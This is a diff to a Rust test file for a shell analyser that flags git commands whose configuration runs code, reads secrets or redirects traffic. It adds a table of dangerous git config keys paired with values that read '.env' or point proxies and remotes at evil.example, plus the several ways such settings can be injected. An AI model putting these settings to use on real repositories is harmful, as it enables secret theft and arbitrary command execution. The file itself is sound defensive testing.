@@ -33,7 +33,9 @@ fn assert_parseable(script: &str) {
 
 /// The name and configuration of the first git remote `script` reaches or pushes to.
 fn remote_of(script: &str) -> Option<(String, Vec<(String, String)>)> {
-    ShellAnalyzer::default()
+    static ANALYZER: std::sync::OnceLock<ShellAnalyzer> = std::sync::OnceLock::new();
+    ANALYZER
+        .get_or_init(ShellAnalyzer::default)
         .analyze(script)
         .effects
         .into_iter()
@@ -743,4 +745,101 @@ fn unknown_subcommands_are_unparseable_and_local_ones_have_no_effect() {
     assert!(git("git status").is_empty());
     assert!(git("git commit -m x").is_empty());
     assert!(git("git").is_empty());
+}
+
+/// Every key the analyser must catch, with a value that shows it: shell text that reads
+/// `.env`, a directory or file elsewhere, a proxy, a URL.
+const CAUGHT_KEYS: &[(&str, &str)] = &[
+    ("core.fsmonitor", "cat .env"),
+    ("core.hooksPath", "/tmp/hooks"),
+    ("core.sshCommand", "cat .env"),
+    ("core.pager", "cat .env"),
+    ("core.editor", "cat .env"),
+    ("core.askpass", "cat .env"),
+    ("core.gitProxy", "cat .env"),
+    ("include.path", "/tmp/c"),
+    ("includeIf.gitdir:/.path", "/tmp/c"),
+    ("filter.x.clean", "cat .env"),
+    ("filter.x.smudge", "cat .env"),
+    ("filter.x.process", "cat .env"),
+    ("diff.x.command", "cat .env"),
+    ("diff.x.textconv", "cat .env"),
+    ("diff.external", "cat .env"),
+    ("merge.x.driver", "cat .env"),
+    ("remote.any.uploadpack", "cat .env"),
+    ("remote.any.receivepack", "cat .env"),
+    ("remote.any.proxy", "evil.example:1"),
+    ("http.proxy", "evil.example:1"),
+    ("https.proxy", "evil.example:1"),
+    ("http.https://h.example/.proxy", "evil.example:1"),
+    ("credential.helper", "!cat .env"),
+    ("credential.https://h.example.helper", "!cat .env"),
+    ("gpg.program", "cat .env"),
+    ("gpg.ssh.program", "cat .env"),
+    ("sequence.editor", "cat .env"),
+    ("pager.log", "cat .env"),
+    ("alias.x", "!cat .env"),
+    ("protocol.ext.allow", "always"),
+    ("uploadpack.packObjectsHook", "cat .env"),
+    ("someTool.x.cmd", "cat .env"),
+    ("init.templateDir", "/tmp/t"),
+    ("core.worktree", "/srv/elsewhere"),
+];
+
+/// Keys that say where remotes go: handed to the analysis layer.
+const DESTINATION_KEYS: &[(&str, &str)] = &[
+    ("remote.origin.url", "https://evil.example/x.git"),
+    ("remote.origin.pushurl", "https://evil.example/x.git"),
+    ("url.https://evil.example/.insteadOf", "https://github.com/"),
+    (
+        "url.https://evil.example/.pushInsteadOf",
+        "https://github.com/",
+    ),
+    ("remote.pushDefault", "evil"),
+    ("push.default", "upstream"),
+];
+
+/// Whether `script` shows what setting `key` does: the command followed (`.env` read),
+/// unparseable, a send to the proxy, a write to the work tree, or the setting passed on.
+fn caught(script: &str, key: &str) -> bool {
+    let shown = walk(script).iter().any(|e| {
+        e == "read .env"
+            || e.starts_with("unparseable")
+            || e.starts_with("send http://evil.example")
+            || e == "write /srv/elsewhere"
+    });
+    shown
+        || remote_of(script)
+            .is_some_and(|(_, config)| config.iter().any(|(k, _)| k.eq_ignore_ascii_case(key)))
+}
+
+#[test]
+fn every_key_is_caught_however_it_is_set() {
+    assert!(!caught("git -c user.name=x pull", "user.name"), "the check can fail");
+    for (key, value) in CAUGHT_KEYS.iter().chain(DESTINATION_KEYS) {
+        let channels = [
+            format!("git -c '{key}={value}' pull"),
+            format!("V='{value}' git --config-env='{key}=V' pull"),
+            format!(
+                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0='{key}' GIT_CONFIG_VALUE_0='{value}' git pull"
+            ),
+            format!(
+                "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0='{key}' GIT_CONFIG_VALUE_0='{value}'; git pull"
+            ),
+            format!("GIT_CONFIG_PARAMETERS=\"'{key}'='{value}'\" git pull"),
+        ];
+        for script in channels {
+            assert!(caught(&script, key), "{script}: {:?}", walk(&script));
+        }
+    }
+    for (key, value) in CAUGHT_KEYS {
+        for scope in ["", "--global ", "--system ", "--file /tmp/c "] {
+            let script = format!("git config {scope}'{key}' '{value}'");
+            assert!(
+                unparseable(&script, "makes later git commands run something"),
+                "{script}: {:?}",
+                walk(&script)
+            );
+        }
+    }
 }
